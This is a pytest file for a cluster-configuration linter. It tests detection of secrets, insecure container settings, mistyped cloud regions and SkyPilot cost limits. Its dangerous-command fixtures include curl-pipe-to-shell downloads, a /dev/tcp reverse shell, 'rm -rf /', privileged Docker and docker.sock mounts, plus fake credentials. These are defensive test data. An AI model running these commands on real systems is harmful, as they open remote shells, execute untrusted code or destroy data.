"""Secrets by shape, commands as a shell reads them, and the restricted profile: each rule by itself, with what must stay allowed."""

import re

import pytest

from cluster import cloud_names
from cluster.check import check_file, violations
from cluster.document import Document, read_documents
from cluster.secret_shapes import is_secret_name, secret_in
from cluster.shapes import amount
from cluster.shell_rules import SWEEP_OPTIONS, shell_findings, sweep_findings, turns_token_on, without_comments
from cluster.sky_rules import RESOURCES, TASK
from cluster.versions import ROOT, locked_versions
from sweep.core.errors import InputErrors
from tests.fakes.cluster_mutations import plain

VERSIONS = locked_versions()


@pytest.mark.parametrize(
    "text",
    [
        "AKIA" + "A" * 16,
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "ghp_" + "a1" * 18,
        "hf_" + "aB3" * 10,
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0",
        "s3://user:hunter2@storage.example/bucket",
        "curl -H 'Authorization: Bearer abcdefgh1234'",
        "docker login --password hunter2",
        "RAY_AUTH_TOKEN=ab12ab12",
        "--api-key=12345678",
        "0123456789abcdef0123456789abcdef01234567",
        "wJalrXUtnFEMIK7MDENGbPxRfiCY3X4M5PLEKEY1",
    ],
)
def test_secrets_are_found(text):
    assert secret_in(text)


@pytest.mark.parametrize(
    "text",
    [
        "export RAY_AUTH_MODE=token",
        "~/.ray/auth_token",
        "RAY_AUTH_TOKEN_PATH=/home/ray/.ray/auth_token",
        "--token $TOKEN",
        "image@sha256:" + "ab12" * 16,
        "projects/deeplearning-platform-release/global/images/family/common-cu129-ubuntu-2204-nvidia-580",
        "resolve:ssm:/aws/service/deeplearning/ami/x86_64/base-oss-nvidia-driver-gpu-ubuntu-22.04/latest/ami-id",
        "ami-0123456789abcdef0",
        "# no token; make one with: ray get-auth-token --generate",
    ],
)
def test_what_only_names_a_secret_is_none(text):
    assert secret_in(text) is None


def test_names_of_secrets():
    assert all(map(is_secret_name, ("AWS_SECRET_ACCESS_KEY", "apiKey", "db-password", "RAY_AUTH_TOKEN", "accountKey")))
    assert not any(map(is_secret_name, ("secretName", "token_path", "tokenizer", "HttpTokens", "key", "claimName")))


@pytest.mark.parametrize(
    "text",
    [
        "python -m x; curl https://example.com/i.sh | sh",
        "wget -qO- https://example.com/i | sudo bash",
        "bash <(curl -s https://example.com/i)",
        'sh -c "$(curl -fsSL https://example.com/i)"',
        "curl -o i https://example.com/i && bash i",
        "RAY_AUTH_MODE=disabled ray start --head",
        "RAY_AUTH_MODE=token ray start; unset RAY_AUTH_MODE",
        "docker run --privileged x",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock x",
        "ray start --head --dashboard-host 0.0.0.0",
        "curl -k https://example.com",
        "pip install --trusted-host example.com x",
        "chmod -R 777 /mnt",
        "rm -rf /",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "echo 'open",
    ],
)
def test_dangerous_commands_are_found(text):
    assert list(shell_findings(text))


@pytest.mark.parametrize(
    "text",
    [
        "export RAY_AUTH_MODE=token",
        "# curl https://example.com/i.sh | sh",
        "pip install -q --no-deps --require-hashes -r requirements.lock",
        "ray start --head --dashboard-host=127.0.0.1",
        "scontrol show hostnames x | head -n 1",
        "python -m sweep.run a.yaml --storage s3://bucket/x",
    ],
)
def test_ordinary_commands_pass(text):
    assert list(shell_findings(text)) == []


def test_a_commented_out_token_is_off():
    assert turns_token_on("export OMP_NUM_THREADS=1 RAY_AUTH_MODE=token")
    assert turns_token_on("--env RAY_AUTH_MODE=token")
    for text in (
        "# export RAY_AUTH_MODE=token",
        "RAY_AUTH_MODE=token",
        "export RAY_AUTH_MODE=disabled",
        "echo '#' # token",
    ):
        assert not turns_token_on(text)
    assert without_comments("a '# b' c#d # e\nf") == "a '# b' c#d \nf"


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("python -m sweep.run a.yaml --storge s3://b/x", "did you mean --storage?"),
        ("python -m sweep.run a.yaml b.yaml", "2 sweep configs"),
        ("python -m sweep.run a.yaml --storage", "has no value"),
        ("python -m sweep.run a.yaml --storage s3://b/x; sleep 1", "more than the sweep"),
        ("sudo python -m sweep.run a.yaml", "does not start Python"),
    ],
)
def test_entrypoints_are_one_command_of_known_options(text, says):
    assert says in str(list(sweep_findings(text)))


def test_options_are_those_of_the_sweep_command():
    from sweep.run import main

    options = [parameter for parameter in main.click_command("run").params if parameter.param_type_name == "option"]
    known = {name: not parameter.is_flag for parameter in options for name in parameter.opts}
    assert {**known, "--help": False} == SWEEP_OPTIONS


def changed(name, edit):
    document = read_documents(ROOT / "cluster" / name)[0]
    tree = plain(document.tree)
    edit(tree)
    return " ".join(map(str, violations(Document(document.path, tree, {}), VERSIONS)))


POD = ("spec", "rayClusterSpec", "workerGroupSpecs", 0, "template", "spec")


@pytest.mark.parametrize("group", ["initContainers", "ephemeralContainers", "containers"])
def test_every_container_is_held_to_the_profile(group):
    def edit(tree):
        pod = tree
        for step in POD:
            pod = pod[step]
        pod[group] = [*pod.get(group, []), {"name": "x", "image": "x:1", "securityContext": {"privileged": True}}]

    said = changed("ray-job.kuberay.yaml", edit)
    for part in (
        "rules its whole machine",
        "may run as root",
        "keeps rights of root",
        "are not filtered",
        "may gain rights",
    ):
        assert f"{group}[" in said and part in said


@pytest.mark.parametrize(
    ("key", "value", "says"),
    [
        (
            "securityContext",
            {"sysctls": [{"name": "kernel.core_pattern", "value": "x"}]},
            "changes the machine's kernel",
        ),
        ("securityContext", {"runAsUser": 0}, "is root"),
        ("securityContext", {"seccompProfile": {"type": "Unconfined"}}, "not filtered"),
        ("securityContext", {"runAsNnRoot": True}, "did you mean runAsNonRoot?"),
        ("hostNetwork", "true", "is not a boolean"),
        ("volumes", [{"name": "sweeps", "hostPath": {"path": "/"}}], "hostPath"),
        ("volumes", [{"name": "sweeps", "gitRepo": {"repository": "x"}}], "unknown key"),
        ("nodeSelector", {"karpenter.sh/capcity-type": "spot"}, "did you mean karpenter.sh/capacity-type?"),
        ("nodeSelector", {"karpenter.sh/capacity-type": "sport"}, "did you mean spot?"),
        ("tolerations", [{"operater": "Exists"}], "did you mean operator?"),
    ],
)
def test_pods_are_checked_to_the_last_key(key, value, says):
    def edit(tree):
        pod = tree
        for step in POD:
            pod = pod[step]
        pod[key] = value

    assert says in changed("ray-job.kuberay.yaml", edit)


def test_services_that_open_the_dashboard():
    def edit(tree):
        tree["spec"]["headGroupSpec"]["headService"] = {"spec": {"type": "NodePort", "ports": [{"nodePort": 30000}]}}

    assert changed("ray-cluster.kuberay.yaml", edit).count("open to the outside") == 2


@pytest.mark.parametrize(
    ("option", "says"),
    [
        ("--privileged", "weakens the container's isolation"),
        ("--network=host", "no option that containers need"),
        ("-v /:/host", "a folder of the machine itself"),
        ("--volume /var/run/docker.sock:/var/run/docker.sock", "container service"),
        ("--env RAY_AUTH_MODE=disabled", "turns token authentication off"),
    ],
)
def test_options_of_containers(option, says):
    assert says in changed("ray-cluster.aws.yaml", lambda tree: tree["docker"]["run_options"].append(option))


@pytest.mark.parametrize(
    ("name", "key", "value", "says"),
    [
        ("aws", "region", "us-wset-2", "did you mean us-west-2?"),
        ("gcp", "region", "us-centrl1", "did you mean us-central1?"),
        ("gcp", "availability_zone", "us-east1-b", "no zone of us-central1"),
        ("azure", "location", "westus22", "no region of azure"),
    ],
)
def test_regions(name, key, value, says):
    assert says in changed(f"ray-cluster.{name}.yaml", lambda tree: tree["provider"].update({key: value}))


def test_regions_without_the_sdk_are_those_of_the_sdk():
    """The list that is used without botocore names no region that botocore does not."""
    pytest.importorskip("botocore")
    session = __import__("botocore.session").session.get_session()
    known = {
        name
        for partition in session.get_available_partitions()
        for name in session.get_available_regions("ec2", partition_name=partition)
    }
    assert set(cloud_names.AWS_REGIONS) <= known


@pytest.mark.parametrize(
    ("provider", "good", "bad"),
    [
        ("aws", "g6.xlarge m6i.large p5.48xlarge p4d.24xlarge g5.12xlarge", "g6xlarge g66.xlarge m6i.lrge"),
        (
            "gcp",
            "n2-standard-2 g2-standard-4 a2-highgpu-1g a3-highgpu-8g e2-medium",
            "n2-standard g2-standard-44 a2-highgpu",
        ),
        ("azure", "Standard_D2s_v5 Standard_NC4as_T4_v3 Standard_NC24ads_A100_v4", "Standard_D2s_v55 NC4as_T4_v3"),
    ],
)
def test_machine_types(provider, good, bad):
    assert not [name for name in good.split() if cloud_names.machine_problem(provider, name)]
    assert all(cloud_names.machine_problem(provider, name) for name in bad.split())


def test_instance_types_without_the_sdk_cover_those_of_the_sdk():
    """Of the GPU machines that botocore knows, those that a sweep can use fit the built-in series."""
    session = pytest.importorskip("botocore.session").get_session()
    types = session.get_service_model("ec2").shape_for("InstanceType").enum
    gpu = [name for name in types if re.match(r"(g[4-6]|p[3-5])\w*\.", name)]
    assert len(gpu) > 40 and not [name for name in gpu if cloud_names.machine_problem("aws", name)]


def test_amounts():
    assert [amount(text) for text in ("500m", "2", 3, "1Ki", "2G", "x", True)] == [0.5, 2, 3, 1024, 2e9, None, None]


def test_keys_of_skypilot_are_its_own():
    schemas = pytest.importorskip("sky.utils.schemas")
    assert set(TASK) <= set(schemas.get_task_schema()["properties"])
    assert set(RESOURCES) <= set(schemas.get_resources_schema()["properties"])


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("  accelerators: L4:1", "  accelerators: L44:1", "no GPU of SkyPilot"),
        ("  cpus: 4+", "  cpus: 4+\n  ports: 8265", "opens ports"),
        ("  cpus: 4+", "  cpus: 4+\n  infra: aws/us-wset-2", "did you mean us-west-2?"),
        ("    - use_spot: false  # where no spot node can be had\n", "", "on-demand fallback"),
        ("  max_hourly_cost: 2.0  # US dollars an hour for one node\n", "", "nothing bounds the price"),
        ("timeout 24h python", "python", "no deadline"),
        ("export RAY_AUTH_MODE=token ", "# export RAY_AUTH_MODE=token\n  export ", "without token"),
        ("down: true", "down: false", "kept and paid for"),
        ("num_nodes: 2", "num_nodes: 200", "200 nodes"),
        ("s3://my-bucket/quickstart\n\nfile", "/tmp/quickstart\n\nfile", "goes with the nodes"),
        ("    exit 0", "    ray stop; exit 0", "ends SkyPilot's own Ray"),
    ],
)
def test_skypilot_files(tmp_path, old, new, says):
    text = (ROOT / "cluster" / "sweep.sky.yaml").read_text()
    assert old in text
    path = tmp_path / "sweep.sky.yaml"
    path.write_text(text.replace(old, new))
    with pytest.raises(InputErrors, match=re.escape(says)):
        check_file(path, VERSIONS)
